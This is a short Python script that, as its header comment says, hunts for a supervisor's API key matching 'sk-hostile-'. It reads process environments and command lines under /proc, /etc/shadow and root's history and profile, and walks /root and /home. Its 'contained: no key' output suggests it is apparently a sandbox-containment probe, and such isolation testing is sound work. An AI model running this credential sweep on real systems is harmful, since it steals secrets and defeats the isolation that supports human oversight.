# Hunts for the supervisor's API key: its own environment, every
# /proc/*/environ and cmdline, /proc/1/environ, /etc/shadow, /root.
# Prints the key only if it found it.
import glob
import os
import re
found = set()
pat = re.compile(rb"sk-hostile-[0-9a-f]+")
for k, v in os.environ.items():
    found.update(pat.findall(v.encode()))
for f in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline") + [
        "/proc/1/environ", "/etc/shadow", "/root/.bash_history",
        "/root/.profile", "/proc/self/environ"]:
    try:
        with open(f, "rb") as fh:
            found.update(pat.findall(fh.read()))
    except OSError:
        pass
for root in ("/root", "/home"):
    for dirpath, dirs, files in os.walk(root):
        for n in files:
            try:
                with open(os.path.join(dirpath, n), "rb") as fh:
                    found.update(pat.findall(fh.read(1 << 20)))
            except OSError:
                pass
if found:
    print(sorted(found)[0].decode())
else:
    print("contained: no key")
